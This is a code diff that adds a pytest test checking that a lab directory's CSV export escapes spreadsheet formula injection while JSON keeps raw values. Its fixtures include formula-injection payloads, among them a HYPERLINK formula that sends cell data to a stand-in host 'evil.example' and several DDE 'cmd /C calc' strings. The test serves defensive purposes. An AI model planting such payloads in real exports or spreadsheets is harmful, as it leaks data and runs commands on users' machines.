@@ -91,3 +91,35 @@ def test_exports_run_a_constant_number_of_queries(
         response = client.get(f"/en/labs/?format={export_format}")
         content = body(response)
     assert content.count("many-") >= 300
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1;"clic")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_text_is_never_a_formula_and_numbers_stay_numbers(client, typed):
+    LabFactory(
+        slug="formula",
+        name_fr=typed,
+        acronym=typed[:20],
+        city_fr=typed,
+        latitude="-33.45",
+        longitude="-70.66",
+    )
+    response = client.get("/fr/laboratoires/?format=csv")
+    (row,) = csv.DictReader(io.StringIO(body(response), newline=""))
+    assert row["name"] == row["city"] == "'" + typed
+    assert row["acronym"] == "'" + typed[:20]
+    assert row["latitude"] == "-33.45"
+    assert row["longitude"] == "-70.66"
+    # The JSON is read by programs: it keeps the values as they are.
+    (result,) = json.loads(body(client.get("/fr/laboratoires/?format=json")))["results"]
+    assert result["name"] == typed
+    assert result["latitude"] == -33.45
